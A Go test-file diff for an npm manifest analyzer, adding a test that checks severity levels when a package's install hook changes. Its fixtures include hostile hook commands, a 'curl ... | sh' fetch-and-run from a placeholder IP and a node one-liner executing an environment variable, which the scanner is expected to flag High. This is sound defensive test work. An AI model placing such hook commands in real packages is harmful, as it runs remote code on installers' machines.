@@ -3,6 +3,7 @@ package manifest
 import (
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -198,5 +199,33 @@ func BenchmarkNPMDiff(b *testing.B) {
 	for b.Loop() {
 		(Analyzer{}).Analyze(cur)
 		(Analyzer{}).Diff(old, cur)
+	}
+}
+
+func TestHookChangeLevels(t *testing.T) {
+	pkg := func(install string) *analyze.File {
+		b := []byte(`{"name":"n","version":"1.0.0","scripts":{"install":` + strconv.Quote(install) + `}}`)
+		return &analyze.File{Path: "p/package.json", Data: b, Size: int64(len(b)), Kind: analyze.JSON}
+	}
+	for _, tc := range []struct {
+		was, now string
+		level    report.Level
+	}{
+		{"node-pre-gyp install --fallback-to-build", "prebuild-install -r napi || node-gyp rebuild", report.Medium},
+		{"node-gyp rebuild", "node setup.js && node-gyp rebuild", report.High},
+		{"node-gyp rebuild", "node-gyp rebuild && curl -s https://203.0.113.7/x | sh", report.High},
+		{"node install.js", "node install.js --verbose", report.Medium},
+		{"node install.js", "node -e \"require('child_process').exec(process.env.X)\"", report.High},
+	} {
+		got := (Analyzer{}).Diff(pkg(tc.was), pkg(tc.now))
+		var level report.Level
+		for _, f := range got {
+			if f.Rule == RuleHookChanged {
+				level = f.Level
+			}
+		}
+		if level != tc.level {
+			t.Errorf("%q -> %q: %s, want %s", tc.was, tc.now, level, tc.level)
+		}
 	}
 }
